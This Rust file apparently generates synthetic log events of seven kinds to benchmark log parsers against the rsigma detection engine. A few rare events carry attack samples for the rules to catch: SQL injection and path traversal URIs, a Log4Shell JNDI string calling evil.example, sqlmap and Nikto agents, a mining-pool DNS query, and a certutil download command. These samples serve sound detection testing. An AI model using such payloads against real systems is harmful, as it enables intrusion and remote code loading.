//! Events of several kinds, each as the lines our parsers read and as the objects rsigma reads.
//!
//! Both say the same: rsigma's objects have the fields its rules name and no more. About one event
//! in a few hundred is one that a rule looks for.

use haetae_event::Dataset;
use rand::RngExt;
use rand_chacha::ChaCha8Rng;
use serde_json::{Value, json};

/// Events of one kind.
pub struct Load {
    pub name: &'static str,
    pub format: &'static str,
    pub dataset: Dataset,
    pub lines: String,
    pub objects: Vec<Value>,
    /// The lines are JSON: rsigma may read them too.
    pub json: bool,
    /// The rules about processes are asked as well.
    pub processes: bool,
}

impl Load {
    fn new(name: &'static str, format: &'static str, dataset: Dataset) -> Load {
        Load {
            name,
            format,
            dataset,
            lines: String::new(),
            objects: Vec::new(),
            json: false,
            processes: false,
        }
    }

    fn add(&mut self, line: &str, object: Value) {
        self.lines.push_str(line);
        self.lines.push('\n');
        self.objects.push(object);
    }

    /// The line is the object.
    fn add_json(&mut self, object: Value) {
        let line = object.to_string();
        self.add(&line, object);
    }
}

/// Makes so many events.
type Make = fn(&mut ChaCha8Rng, usize) -> Load;

/// Every kind of load by its name.
pub const KINDS: [(&str, Make); 7] = [
    ("access log", web),
    ("CloudTrail", cloudtrail),
    ("Zeek DNS, JSON", zeek),
    ("service log, JSON", service),
    ("flow log", flows),
    ("syslog", syslog),
    ("processes, JSON", processes),
];

fn one<'t>(dice: &mut ChaCha8Rng, of: &[&'t str]) -> &'t str {
    of[dice.random_range(0..of.len())]
}

/// A hundred events a second.
fn clock(n: usize) -> String {
    format!(
        "{:02}:{:02}:{:02}",
        n / 360_000 % 24,
        n / 6_000 % 60,
        n / 100 % 60
    )
}

fn uri(dice: &mut ChaCha8Rng) -> String {
    match dice.random_range(0..400u32) {
        0 => "/index.php?id=1+UNION ALL SELECT 1,2--".to_owned(),
        1 => "/cgi-bin/../../../../etc/passwd".to_owned(),
        2 => "/?x=${jndi:ldap://evil.example/a}".to_owned(),
        3..=220 => format!(
            "/static/assets/chunk-{}.{:08x}.js",
            dice.random_range(0..400u32),
            dice.random_range(0..20u32)
        ),
        221..=300 => format!(
            "/product/{}?ref=main&color={}",
            dice.random_range(0..40_000u32),
            dice.random_range(0..12u32)
        ),
        _ => format!(
            "/search?q=%EA%B2%80%EC%83%89+{}&page={}",
            dice.random_range(0..60_000u32),
            dice.random_range(0..9u32)
        ),
    }
}

fn agent(dice: &mut ChaCha8Rng) -> String {
    match dice.random_range(0..300u32) {
        0 => one(dice, &["sqlmap/1.8", "curl/8.4", "Nikto/2.1"]).to_owned(),
        n => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36"
        ),
    }
}

fn web(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("access log", "combined", Dataset::Web);
    for n in 0..events {
        let (uri, agent) = (uri(dice), agent(dice));
        let client = format!(
            "203.0.{}.{}",
            dice.random_range(0..80u8),
            dice.random_range(0..250u8)
        );
        let status = if dice.random_ratio(1, 30) { 404 } else { 200 };
        let line = format!(
            "{client} - - [01/Mar/2026:{} +0000] \"GET {uri} HTTP/1.1\" {status} {} \"https://shop.example/\" \"{agent}\"",
            clock(n),
            dice.random_range(200..90_000u32)
        );
        let object = json!({
            "c-ip": client, "src_ip": client, "cs-method": "GET", "sc-status": status, "cs-uri": uri, "c-uri": uri,
            "cs-uri-query": uri, "c-uri-query": uri, "cs-uri-stem": uri.split('?').next(), "cs-user-agent": agent,
            "c-useragent": agent, "cs-referer": "https://shop.example/",
        });
        load.add(&line, object);
    }
    load
}

fn cloudtrail(dice: &mut ChaCha8Rng, events: usize) -> Load {
    const CALLS: [(&str, &str); 12] = [
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("s3.amazonaws.com", "GetObject"),
        ("s3.amazonaws.com", "ListBuckets"),
        ("sts.amazonaws.com", "AssumeRole"),
        ("kms.amazonaws.com", "Decrypt"),
        ("logs.amazonaws.com", "CreateLogStream"),
        ("iam.amazonaws.com", "CreateAccessKey"),
        ("signin.amazonaws.com", "ConsoleLogin"),
        ("rds.amazonaws.com", "ModifyDBInstance"),
        ("ec2.amazonaws.com", "ModifyInstanceAttribute"),
        ("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2"),
        ("cloudtrail.amazonaws.com", "LookupEvents"),
    ];
    let mut load = Load::new("CloudTrail", "cloudtrail", Dataset::CloudTrail);
    load.json = true;
    for n in 0..events {
        let common = dice.random_ratio(19, 20);
        let (source, name) = CALLS[dice.random_range(if common { 0..6 } else { 0..CALLS.len() })];
        let user = dice.random_range(0..500u32);
        load.add_json(json!({
            "eventVersion": "1.08",
            "userIdentity": {"type": "IAMUser", "principalId": format!("AIDA{user:08}"), "arn": format!("arn:aws:iam::123456789012:user/u{user}"),
                "accountId": "123456789012", "accessKeyId": format!("AKIA{user:016}"), "userName": format!("u{user}")},
            "eventTime": format!("2026-03-01T{}Z", clock(n)),
            "eventSource": source, "eventName": name, "awsRegion": "ap-northeast-2",
            "sourceIPAddress": format!("203.0.113.{}", user % 250), "userAgent": "aws-cli/2.15 Python/3.11 Linux/6.1",
            "requestParameters": {"bucketName": format!("b{}", dice.random_range(0..90u32)), "key": format!("a/b/{}.json", dice.random_range(0..90_000u32)), "attribute": "userData"},
            "responseElements": null, "requestID": format!("R{n:015}"), "eventID": format!("00000000-0000-4000-8000-{n:012}"),
            "readOnly": true, "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "123456789012", "eventCategory": "Management",
        }));
    }
    load
}

fn zeek(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("Zeek DNS, JSON", "json", Dataset::App);
    load.json = true;
    for n in 0..events {
        let host = match dice.random_range(0..500u32) {
            0 => "stratum.minexmr.com".to_owned(),
            _ => format!(
                "host{}.example{}.com",
                dice.random_range(0..9_000u32),
                dice.random_range(0..50u32)
            ),
        };
        load.add_json(json!({
            "ts": 1_772_323_200.0 + n as f64 / 100.0, "uid": format!("C{n:017}"), "id.orig_h": format!("10.0.{}.{}", n % 200, n % 250),
            "id.orig_p": 40_000 + n % 20_000, "id.resp_h": "10.0.0.53", "id.resp_p": 53, "proto": "udp", "query": host, "qtype_name": "A",
            "rcode_name": "NOERROR", "answers": ["192.0.2.1", "192.0.2.2"], "rejected": false, "Z": 0,
        }));
    }
    load
}

fn service(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("service log, JSON", "json", Dataset::App);
    load.json = true;
    for n in 0..events {
        let (level, text) = match dice.random_range(0..100u32) {
            0 => ("error", "payment gateway timed out, retrying"),
            1..=5 => ("warn", "slow query on orders"),
            _ => ("info", "request served"),
        };
        load.add_json(json!({
            "time": format!("2026-03-01T{}.{:03}Z", clock(n), n % 1_000), "level": level, "logger": "shop.checkout.OrderController",
            "thread": format!("http-nio-8080-exec-{}", n % 64), "msg": text, "trace": format!("{:032x}", u128::from(dice.random::<u64>())),
            "http": {"method": "GET", "route": "/api/v1/orders/{id}", "status": 200, "took_ms": dice.random_range(1..900u32)},
            "customer": {"id": dice.random_range(0..90_000u32), "tier": one(dice, &["free", "plus", "team"])},
            "pod": format!("checkout-7f9c{}", n % 12), "region": "ap-northeast-2",
        }));
    }
    load
}

fn flows(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("flow log", "vpcflow", Dataset::VpcFlow);
    for n in 0..events {
        let (from, to) = (
            format!(
                "10.0.{}.{}",
                dice.random_range(0..40u8),
                dice.random_range(1..250u8)
            ),
            format!("198.51.100.{}", dice.random_range(1..250u8)),
        );
        let port: u16 = match dice.random_range(0..300u32) {
            0 => 21,
            1 => 23,
            2..=40 => dice.random_range(1_024..60_000u16),
            _ => 443,
        };
        let (sport, bytes) = (
            dice.random_range(30_000..60_000u16),
            dice.random_range(40..90_000u32),
        );
        let action = if dice.random_ratio(1, 40) {
            "REJECT"
        } else {
            "ACCEPT"
        };
        let start = 1_772_323_200 + n / 100;
        let line = format!(
            "2 123456789012 eni-0a1b2c3d4e5f60718 {from} {to} {sport} {port} 6 10 {bytes} {start} {} {action} OK",
            start + 59
        );
        let object = json!({
            "src_ip": from, "dst_ip": to, "src_port": sport, "dst_port": port, "protocol": 6, "packets": 10,
            "bytes": bytes, "action": action,
        });
        load.add(&line, object);
    }
    load
}

fn syslog(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("syslog", "syslog", Dataset::Syslog);
    for n in 0..events {
        let user = one(dice, &["deploy", "backup", "jenkins", "kim", "lee"]);
        let from = format!("203.0.113.{}", dice.random_range(1..250u8));
        let port = dice.random_range(30_000..60_000u16);
        let (program, text) = match dice.random_range(0..300u32) {
            0 => ("aaa", format!("{user} show running-config from {from}")),
            1..=90 => (
                "sshd",
                format!("Failed password for invalid user {user} from {from} port {port} ssh2"),
            ),
            91..=150 => (
                "sshd",
                format!("Accepted publickey for {user} from {from} port {port} ssh2: ED25519 SHA256:xAq5eG"),
            ),
            151..=190 => (
                "sudo",
                format!(
                    "{user} : TTY=pts/0 ; PWD=/srv/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status app-{}",
                    port % 40
                ),
            ),
            191..=230 => (
                "CRON",
                format!("pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)"),
            ),
            _ => ("systemd", format!("Started Session {port} of User {user}.")),
        };
        let (host, pid) = (format!("web{:02}", n % 40), dice.random_range(300..30_000u32));
        let line = format!("<38>Mar  1 {} {host} {program}[{pid}]: {text}", clock(n));
        load.add(
            &line,
            json!({"hostname": host, "appname": program, "procid": pid, "message": text}),
        );
    }
    load
}

fn processes(dice: &mut ChaCha8Rng, events: usize) -> Load {
    let mut load = Load::new("processes, JSON", "json", Dataset::App);
    (load.json, load.processes) = (true, true);
    for n in 0..events {
        let (image, line) = match dice.random_range(0..300u32) {
            0 => (
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -f http://203.0.113.9/a.txt a.txt".to_owned(),
            ),
            1..=99 => (
                "C:\\Windows\\System32\\svchost.exe",
                format!("svchost.exe -k netsvcs -p -s Svc{}", n % 90),
            ),
            100..=199 => (
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                format!(
                    "chrome.exe --type=renderer --lang=ko --renderer-client-id={}",
                    n % 4_000
                ),
            ),
            _ => (
                "C:\\Tools\\build\\cl.exe",
                format!("cl.exe /c /O2 /Fo obj{}.obj src{}.cpp", n % 900, n % 900),
            ),
        };
        load.add_json(json!({
            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
            "UtcTime": format!("2026-03-01 {}.000", clock(n)), "Computer": format!("PC{:03}.corp.example", n % 300),
            "ProcessGuid": format!("{{{:08X}-0000-0000-0000-000000000000}}", dice.random::<u32>()), "ProcessId": dice.random_range(400..30_000u32),
            "Image": image, "OriginalFileName": image.rsplit('\\').next(), "CommandLine": line,
            "User": "CORP\\kim", "IntegrityLevel": "Medium", "ParentImage": "C:\\Windows\\explorer.exe", "ParentCommandLine": "C:\\Windows\\explorer.exe",
        }));
    }
    load
}
